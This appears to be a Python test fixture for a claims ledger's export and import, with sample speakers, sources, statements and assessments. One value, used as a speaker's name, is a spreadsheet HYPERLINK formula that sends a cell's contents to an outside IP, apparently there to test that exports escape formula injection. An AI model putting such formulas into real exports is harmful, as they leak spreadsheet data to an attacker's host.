"""What is exported in tests: a ledger that has a bit of everything, formulas among its texts."""

import json
from pathlib import Path
from typing import Any

from cli_tools import Outcome, call

from ledger.api import Ledger

Command = dict[str, Any]

RUN_ME = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'  # what a spreadsheet would run
TEXT = "On Monday Kabulov said the number of militants exceeds 10,000 and continues to grow.\n"

COMMANDS: tuple[Command, ...] = (
    {"command": "register_speaker", "speaker_id": "zamir-kabulov", "kind": "person",
     "name": "Zamir Kabulov", "aliases": ["Kabulov"], "identifiers": {"wikidata": "Q4207990"},
     "memberships": [{"role": "envoy", "organization": "Russia", "from": "2011"}]},
    {"command": "register_speaker", "speaker_id": "tass", "kind": "outlet", "name": "TASS",
     "identifiers": {"url": "https://tass.com"}},
    {"command": "register_speaker", "speaker_id": "evil", "kind": "person", "name": RUN_ME},
    {"command": "register_speaker", "speaker_id": "nobody", "kind": "unnamed",
     "name": "Unnamed speaker in a leaflet"},
    {"command": "define_measure", "measure_id": "fighters", "label": "Daesh fighters",
     "unit": "people", "tags": ["militant-count"]},
    {"command": "cite_source", "source_id": "tass-1", "publisher_id": "tass",
     "title": "@TASS on numbers", "author": "A. Petrova", "published": "2017-12-23",
     "url": "https://tass.com/world/1", "language": "en"},
    {"command": "cite_source", "source_id": "leaflet", "title": "A leaflet"},
    {"command": "record_statement", "statement_id": "number-2017", "speaker_id": "zamir-kabulov",
     "said_at": "2017-12?", "proposition": "More than 10,000 Daesh militants are in Afghanistan.",
     "language": "en", "topics": ["daesh", "numbers"],
     "reports": [
         {"report_id": "r1", "source_id": "tass-1", "quote": "exceeds 10,000",
          "quote_mode": "direct", "attributed_to": "Kabulov", "via": [
              {"speaker_id": "nobody", "on": "2017-12-22", "words": "we were told"}]},
         {"report_id": "r2", "source_id": "leaflet", "quote": "over ten thousand",
          "quote_mode": "indirect", "media_fragment": "page=2"}],
     "estimates": [{"estimate_id": "e1", "report_id": "r1", "measure_id": "fighters",
                    "value": "> 10000", "value_text": "exceeds 10,000",
                    "reference_period": "2017-12"}]},
    {"command": "record_statement", "statement_id": "denied", "speaker_id": "evil",
     "co_speakers": ["nobody"], "said_at": "2018-01-02", "speech_act": "deny",
     "proposition": '-10,000 is what they say, "and" it is wrong.\nAll of it.',
     "reports": [{"report_id": "r3", "source_id": "tass-1", "quote": "'+49 is no number",
                  "quote_mode": "partial"}]},
    {"command": "relate_statements", "from": "denied", "to": "number-2017", "relation": "denies"},
    {"command": "assess_statement", "statement_id": "number-2017", "assessor": "Fact Desk",
     "rating": {"label": "Half true", "value": 3, "best": 5, "worst": 1},
     "url": "https://facts.example/1", "explanation": "=1+1 of it holds."},
    {"command": "assess_statement", "statement_id": "denied", "assessor": "Ana",
     "information_credibility": 4},
    {"command": "assess_statement", "statement_id": "denied", "assessor": "Bo",
     "explanation": "No rating at all."},
    {"command": "assess_source", "source_id": "tass-1", "assessor": "Ana",
     "source_reliability": "B"},
)  # fmt: skip


def export(ledger: Ledger, *words: str | Path) -> Outcome:
    """Run `claims export`, which must succeed."""
    done = call("export", *words, ledger=ledger.log.folder)
    assert done.code == 0, done.err
    return done


def imported(ledger: Ledger, form: str, *words: str | Path) -> dict[str, Any]:
    """Run `claims import`, which must succeed; its report."""
    done = call("import", form, *words, "--json", ledger=ledger.log.folder)
    assert done.code == 0, done.err
    report: dict[str, Any] = json.loads(done.out)
    return report


def said(ledger: Ledger, names: str = "speaker, said_at, proposition, quote") -> list[Any]:
    """Who said what, when, in which words: a row for each report."""
    sql = f"select {names} from reports join statements using (statement_id) order by all"
    return ledger.query(sql).fetchall()


def new_ledger(folder: Path) -> Ledger:
    """Another ledger of one event."""
    return Ledger.create(folder, origin="example.org/other", actor="bo")


def has_nothing_else(folder: Path, *names: str) -> bool:
    """Whether a folder holds these files, and no trace of work."""
    return sorted(path.name for path in folder.iterdir()) == sorted(names)
